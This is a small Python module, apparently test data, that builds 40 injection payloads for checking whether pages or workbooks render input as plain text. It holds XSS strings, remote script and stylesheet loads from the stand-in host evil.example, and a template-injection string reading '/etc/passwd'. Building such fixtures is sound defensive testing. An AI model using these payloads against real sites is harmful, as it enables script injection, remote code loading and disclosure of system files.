"""Texts that would run, load or calculate something if a page or a workbook took them for more than text."""

from __future__ import annotations

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=\"document.title='run'\">",
    "<svg onload=alert(1)>",
    "<script src=https://evil.example/x.js></script>",
    "<iframe src='https://evil.example'></iframe>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "javascript:alert(1)",
    "<style>@import url(https://evil.example/x.css)</style>",
)
WAYS_OUT = ("", '">', "'>", "</title></style></textarea>", "-->")
PAYLOADS = tuple(WAYS_OUT[i % 5] + ATTACKS[i % 8] for i in range(40))  # every pair; the first eight hold all of both
